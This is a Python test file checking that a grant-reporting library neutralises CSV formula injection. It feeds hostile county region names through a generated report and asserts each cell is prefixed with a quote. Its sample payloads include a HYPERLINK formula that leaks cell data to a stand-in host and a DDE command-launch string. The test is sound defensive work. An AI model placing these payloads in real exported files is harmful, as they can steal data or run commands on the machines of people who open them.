"""CSV injection (OWASP): no cell of a CSV the library writes can start a spreadsheet
formula. The hostile text comes from an agency's own county table, whose region names
reach the reports' 15(d) tables."""

from __future__ import annotations

import csv
import io

import pendulum
import pytest

from choice_workflow import Actor, ManualClock, Program, Role
from choice_workflow.domain.counties import CountyTable
from choice_workflow.reports import final_report, render
from choice_workflow.reports.render_csv import neutral
from choice_workflow.samples import sample_application, sample_employer

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


@pytest.mark.parametrize("text", [*HOSTILE, " =1+1", "\u00a0=1+1", "\n@SUM(A1)", "\uff1d1+1"])
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert "'" + text == neutral(text)


@pytest.mark.parametrize("value", ["-25000.00", "-3", "42", "0.50", "Cook", "", 7])
def test_numbers_and_plain_text_are_left_as_they_are(value: object) -> None:
    assert value == neutral(value)


def test_no_cell_of_a_report_begins_a_formula(tmp_path: object) -> None:
    rows = ["fips,county,cbsa_type,cbsa_name,rural,region"]
    names = []
    for n, region in enumerate(HOSTILE, start=1):
        name = f"County{n}"
        names.append(name)
        quoted = '"' + region.replace('"', '""') + '"'
        rows.append(f"17{n:03d},{name},none,,true,{quoted}")
    table = CountyTable.from_csv_text("\n".join(rows) + "\n", source="hostile.csv")
    start = pendulum.datetime(2030, 7, 1, 9, tz="America/Chicago")
    clock = ManualClock(start)
    program = Program(clock=clock, counties=table)
    director, department = Actor("d", Role.DIRECTOR), Actor("dol", Role.DEPARTMENT)
    program.open_cycle(1, director, appropriation="300000.00")
    for n, name in enumerate(names, start=1):
        employer = sample_employer(f"E{n}", at=clock.now(), county=name)
        program.register_employer(employer, department)
        actor = Actor(f"u{n}", Role.EMPLOYER, employer_id=f"E{n}")
        program.apply(sample_application(f"E{n}", at=clock.now()), actor, grant_id=f"G{n}")
        program.approve(f"G{n}", "25000.00", director)
    text = render(final_report(program, as_of=clock.now().add(days=1), counties=table), "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    shown = [c for c in cells if any(h.strip()[:6] in c for h in HOSTILE)]
    assert shown, "the hostile region names reach the report"
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and neutral(c) != c]
    assert [] == formulas
    assert all(c.startswith("'") for c in shown if c.lstrip("'")[:1] in "=+-@\t\r")
